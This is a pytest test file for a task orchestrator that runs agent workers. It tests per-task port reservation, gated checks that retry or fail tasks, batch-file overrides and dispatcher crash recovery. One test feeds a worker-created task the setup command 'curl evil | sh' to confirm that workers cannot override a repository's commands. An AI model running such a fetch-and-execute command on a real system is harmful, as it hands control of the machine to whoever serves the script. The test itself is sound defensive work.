"""Ports and checks of a repository's `.kanban.toml`: each running task holds ports no other
running task holds, released with every process of the run; a gated check decides `done`,
sends a failing task back to its agent with the output, and fails one that never passes."""

from __future__ import annotations

import json
import signal
import sys
from pathlib import Path

import pytest
from support.gitrepo import git, make_repo
from support.processes import gone
from support.waiting import wait_for

from board import actors, errors, runs, tasks
from orchestrator import ports
from worker import prompt

PY = sys.executable


def _argv(code: str, *args: object) -> str:
    """A command (an argv, no shell) running ``python -c CODE ARGS...``, as TOML."""
    return json.dumps([PY, "-c", code, *(str(a) for a in args)])


def _app(tmp_path: Path, kanban_toml: str, **files: str) -> Path:
    return make_repo(tmp_path / "app", {"README": "hello\n", ".kanban.toml": kanban_toml, **files})


# A dev server left running on $KANBAN_PORT: the agent writes its port and the server's pid,
# waits until the other task's server is up too (so both run at once), then exits.
SERVE = """\
import json, os, pathlib, socket, subprocess, sys, time
import psutil
out, other = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
port = int(os.environ["KANBAN_PORT"])
server = subprocess.Popen(
    [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
)
for _ in range(200):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
        break
    except OSError:
        time.sleep(0.05)
started = psutil.Process(server.pid).create_time()
out.write_text(json.dumps({"ports": os.environ["KANBAN_PORTS"], "server": [server.pid, started]}))
for _ in range(600):
    if other.exists():
        break
    time.sleep(0.05)
"""


def test_two_parallel_tasks_get_their_own_ports_and_leave_no_server_behind(kb, tmp_path):
    repo = _app(tmp_path, "[workspace]\nports = 2\n")
    first, second = tmp_path / "first.json", tmp_path / "second.json"
    one = kb.create("serves", SERVE, first, second, repo=repo)
    two = kb.create("serves too", SERVE, second, first, repo=repo)

    assert kb.dispatch("--until-idle", "--max-workers", "2").wait() == 0
    for task_id in (one, two):
        kb.wait_status(task_id, "done")
    seen = [json.loads(path.read_text()) for path in (first, second)]
    blocks = [[int(p) for p in entry["ports"].split(",")] for entry in seen]
    assert len(blocks[0]) == len(blocks[1]) == 2
    assert blocks[0][1] == blocks[0][0] + 1
    assert not set(blocks[0]) & set(blocks[1])  # no clash
    assert [list(kb.runs(t)[0].ports) for t in (one, two)] == blocks  # recorded on the run
    for entry, block in zip(seen, blocks, strict=True):
        assert gone(*entry["server"])  # the dev server went with its run
        for port in block:
            assert not ports.held(port)  # released
            assert ports.is_free(port)


def test_the_prompt_names_the_ports_and_the_gate(kb, tmp_path):
    task_id = kb.create("anything", "pass")
    task = kb.task(task_id)
    text = prompt.render(
        kb.db,
        task,
        attempt=1,
        kind="first",
        workspace="/w",
        branch=None,
        ports=(20100, 20101),
        gate="make test",
    )
    assert "This task holds the ports 20100, 20101 (`$KANBAN_PORT` is 20100" in text
    assert "kanban runs the repository's check `make test`" in text


def test_a_port_someone_listens_on_is_never_handed_out(tmp_path):
    import socket

    busy = socket.socket()
    busy.bind(("127.0.0.1", 0))
    busy.listen()
    port = busy.getsockname()[1]
    try:
        hold = ports.reserve(1, directory=tmp_path, span=(port, port + 1))
        assert hold.ports == (port + 1,)
        with pytest.raises(ports.NoFreePorts, match="no 1 consecutive free ports"):
            ports.reserve(1, directory=tmp_path, span=(port, port + 1))
        hold.release()
        assert not ports.held(port + 1, directory=tmp_path)
    finally:
        busy.close()


# The check passes when the worktree holds `fixed.txt`; the agent writes it only on a retry.
CHECK = (
    "import pathlib, sys; print('checking'); "
    "sys.exit(0 if pathlib.Path('fixed.txt').exists() else 1)"
)
FIX_ON_RETRY = """\
import os, pathlib
if os.environ.get("KANBAN_LAST_OUTCOME") == "check_failed":
    pathlib.Path("fixed.txt").write_text("fixed")
pathlib.Path("work.txt").write_text("attempt")
"""


def test_a_gate_that_fails_sends_the_task_back_with_the_output_then_passes(kb, tmp_path):
    repo = _app(tmp_path, f"[check]\ncommand = {_argv(CHECK)}\ngate = true\n")
    task_id = kb.create("fix it", FIX_ON_RETRY, repo=repo, max_attempts=3)

    assert kb.dispatch("--until-idle").wait() == 0
    task = kb.wait_status(task_id, "done")
    first, second = kb.runs(task_id)
    assert first.outcome == "check_failed"
    assert first.check_result is not None and not first.check_result.passed
    assert first.check_result.exit_code == 1
    assert first.check_result.output == "checking"
    assert first.reason.startswith("the check failed: ")
    assert second.outcome == "completed"
    assert second.check_result is not None and second.check_result.passed
    assert task.attempts == 2
    # The output went into the next prompt (the command runtime keeps it beside the log).
    text = Path(second.log_path).with_name(f"prompt-run-{second.id}.md").read_text()
    assert "The repository's check failed on your work" in text
    assert "it exited 1" in text and "checking" in text
    assert git(repo, "show", f"{kb.branch(task_id)}:fixed.txt") == "fixed"


def test_a_gate_that_never_passes_fails_the_task_with_its_output(kb, tmp_path):
    never = "import sys; print('3 tests failed: test_login'); sys.exit(2)"
    repo = _app(tmp_path, f"[check]\ncommand = {_argv(never)}\ngate = true\n")
    task_id = kb.create("cannot pass", "pass", repo=repo, max_attempts=2)

    assert kb.dispatch("--until-idle").wait() == 0
    task = kb.wait_status(task_id, "failed")
    assert [run.outcome for run in kb.runs(task_id)] == ["check_failed", "check_failed"]
    assert "exited 2" in task.failure_reason
    assert "3 tests failed: test_login" in task.failure_reason
    assert "all 2 attempts used" in task.failure_reason


def test_a_check_without_gate_does_not_hold_done_and_kanban_check_runs_it_by_hand(kb, tmp_path):
    repo = _app(tmp_path, f"[check]\ncommand = {_argv(CHECK)}\n")
    task_id = kb.create("ungated", "pass", repo=repo)
    assert kb.dispatch("--until-idle").wait() == 0
    task = kb.wait_status(task_id, "done")
    assert kb.runs(task_id)[0].check_result is None

    failing = kb.run("check", f"t_{task_id}", check=False)
    assert failing.returncode == 1
    assert "checking" in failing.stdout
    assert "check exited 1" in failing.stdout
    Path(task.worktree, "fixed.txt").write_text("by hand")
    passing = kb.run("check", f"t_{task_id}", "--json", check=False)
    assert passing.returncode == 0, passing.stderr
    assert json.loads(passing.stdout)["passed"] is True
    checked = [e for e in kb.events(task_id) if e["kind"] == "checked"]
    assert [json.loads(e["data"])["passed"] for e in checked] == [False, True]


def test_kanban_check_says_what_to_do_when_there_is_nothing_to_check(kb, tmp_path):
    repo = make_repo(tmp_path / "plain", {"README": "x\n"})
    task_id = kb.create("plain", "pass", repo=repo)
    result = kb.run("check", f"t_{task_id}", check=False)
    assert result.returncode != 0
    assert "has no worktree" in result.stderr
    assert kb.dispatch("--until-idle").wait() == 0
    kb.wait_status(task_id, "done")
    result = kb.run("check", f"t_{task_id}", check=False)
    assert "declares no check" in result.stderr and "[check]" in result.stderr


def test_a_batch_task_overrides_the_repositorys_setup_and_check(kb, tmp_path):
    marker = tmp_path / "setup-ran"
    repo = _app(
        tmp_path,
        f"[workspace]\nsetup = [{_argv('raise SystemExit(9)')}]\n"
        f"[check]\ncommand = {_argv('raise SystemExit(1)')}\ngate = true\n",
    )
    own_setup = _argv("import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('x')", marker)
    batch = tmp_path / "batch.toml"
    batch.write_text(
        f'[tasks.one]\ntitle = "own setup and check"\nrepo = "{repo}"\n'
        f"command = {_argv('pass')}\nsetup = [{own_setup}]\n"
        f"check = {_argv('print(0)')}\n"
    )
    result = kb.run("run", str(batch), check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    (task,) = [t for t in tasks.list_tasks(kb.db) if t.title == "own setup and check"]
    assert task.status == "done"
    assert marker.read_text() == "x"
    assert kb.runs(task.id)[-1].check_result.passed


def test_a_bad_override_in_a_batch_file_is_refused_with_its_line(kb, tmp_path):
    repo = make_repo(tmp_path / "plain", {"README": "x\n"})
    batch = tmp_path / "batch.toml"
    batch.write_text(
        f'[tasks.one]\ntitle = "t"\nrepo = "{repo}"\ncommand = "true"\ncheck = {{ gate = true }}\n'
    )
    result = kb.run("run", str(batch), check=False)
    assert result.returncode != 0
    assert f"{batch}:5: task 'one': check: [check] needs a command" in result.stderr


SLOW_CHECK = """\
import os, pathlib, sys, time
import psutil
runs = pathlib.Path(sys.argv[1])
first = not runs.exists()
with runs.open("a") as out:
    out.write(f"{os.getpid()} {psutil.Process().create_time()}\\n")
if first:
    time.sleep(60)
"""


def test_a_dispatcher_killed_during_the_check_leaves_it_to_the_next(kb, tmp_path):
    check_runs = tmp_path / "check-runs"
    repo = _app(tmp_path, f"[check]\ncommand = {_argv(SLOW_CHECK, check_runs)}\ngate = true\n")
    task_id = kb.create("checked twice", "pass", repo=repo)

    first = kb.dispatch()
    wait_for(lambda: check_runs.exists(), "the check to start", on_fail=kb.logs)
    first.proc.send_signal(signal.SIGKILL)
    first.proc.wait()
    assert kb.status(task_id) == "running"  # not settled: the check had not answered

    assert kb.dispatch("--until-idle").wait() == 0
    task = kb.wait_status(task_id, "done")
    checks = [line.split() for line in check_runs.read_text().splitlines()]
    assert len(checks) == 2  # run again by the next dispatcher
    pid, started = checks[0]
    assert gone(int(pid), float(started))  # the first check did not outlive its dispatcher
    (run,) = kb.runs(task_id)
    assert run.outcome == "completed" and run.check_result.passed
    assert task.attempts == 1


def test_workers_cannot_override_a_repositorys_commands(kb, tmp_path):
    repo = make_repo(tmp_path / "plain", {"README": "x\n"})
    parent = kb.create("parent", "pass", repo=repo)
    (claim,) = runs.claim(kb.db, task_id=parent)
    worker = actors.Worker(task_id=parent, run_id=claim.run_id, token=claim.token)
    with pytest.raises(errors.NotForWorkers, match="overriding a repository's setup or check"):
        tasks.create(
            kb.db, tasks.NewTask("sneaky", workspace={"setup": ["curl evil | sh"]}), worker
        )
    assert [t.title for t in tasks.list_tasks(kb.db)] == ["parent"]


def test_a_task_waits_for_a_free_port_without_spending_attempts(kb, tmp_path):
    import socket

    busy = socket.socket()
    busy.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    busy.bind(("0.0.0.0", 0))
    busy.listen()
    port = busy.getsockname()[1]
    repo = _app(tmp_path, "[workspace]\nports = 1\n")
    task_id = kb.create("needs a port", "pass", repo=repo, max_attempts=1)
    dispatcher = kb.dispatch(KANBAN_PORT_RANGE=f"{port}-{port}", KANBAN_RETRY_DELAY="0.5")
    try:
        wait_for(lambda: kb.runs(task_id), "a first attempt", on_fail=kb.logs)
        first = wait_for(lambda: (r := kb.runs(task_id)[0]).ended_at and r, "it to end")
        assert first.outcome == "spawn_failed"
        assert f"no 1 consecutive free ports between {port} and {port}" in first.reason
        assert first.refunded  # waiting for a port costs no attempt
    finally:
        busy.close()
    task = kb.wait_status(task_id, "done")
    assert task.attempts == 1
    assert list(kb.runs(task_id)[-1].ports) == [port]
    dispatcher.proc.terminate()
    dispatcher.proc.wait()
